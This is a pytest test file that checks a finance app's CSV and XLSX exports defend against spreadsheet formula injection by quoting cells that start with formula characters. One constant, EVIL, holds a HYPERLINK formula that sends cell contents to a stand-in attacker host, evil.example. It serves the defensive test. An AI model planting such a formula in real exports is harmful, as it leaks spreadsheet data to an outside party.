"""Exports are safe to open in a spreadsheet: a text cell that would be a formula stays text (OWASP CSV
injection; issue 10, item 5). Every export writes its rows through ``accounts.exports.export_row``."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pht.apps.accounts.exports import FORMULA_STARTS, export_row
from pht.apps.accounts.models import Role

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klikk")'


@given(st.text())
def test_no_text_cell_starts_a_formula_and_safe_text_is_unchanged(text: str) -> None:
    (cell,) = export_row([text])
    assert not cell.startswith(FORMULA_STARTS)
    if text[:1] not in {"=", "+", "-", "@", "\t", "\r"}:
        assert cell == text
    else:
        assert cell == "'" + text


def test_numbers_and_dates_are_not_text() -> None:
    assert export_row([Decimal("-12.50"), -3, None, datetime.date(2018, 1, 2)]) == [
        "-12.50",
        "-3",
        "",
        "2018-01-02",
    ]
    assert export_row([Decimal("-12.50"), "-1"], numbers_as_text=False) == [Decimal("-12.50"), "'-1"]


@pytest.fixture
def evil_statement(orgs):  # type: ignore[no-untyped-def]
    from pht.apps.finance.models import Statement

    practice = orgs["practice_a"].practice
    practice.name = EVIL
    practice.save()
    return Statement.objects.create(
        practice=practice,
        period="2018-05",
        model="fee",
        residents=10,
        resident_days=300,
        total=Decimal("-5.00"),
    )


def test_a_formula_practice_name_is_text_in_the_csv_and_xlsx(evil_statement, orgs, make_user, client) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    client.force_login(make_user("fin", roles=[Role.FINANCE_OFFICER], organisation=orgs["directorate"]))
    rows = list(csv.reader(io.StringIO(client.get("/finance/export.csv").content.decode())))
    assert rows[1][1] == "'" + EVIL
    assert rows[1][-1] == "-5.00"  # a negative amount stays a number
    book = load_workbook(io.BytesIO(client.get("/finance/export.xlsx").content))
    sheet = book["statements"]
    name = sheet.cell(2, 2)
    assert name.value == "'" + EVIL and name.data_type == "s"
    assert (
        sheet.cell(2, sheet.max_column).value == Decimal("-5") or sheet.cell(2, sheet.max_column).value == -5
    )
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
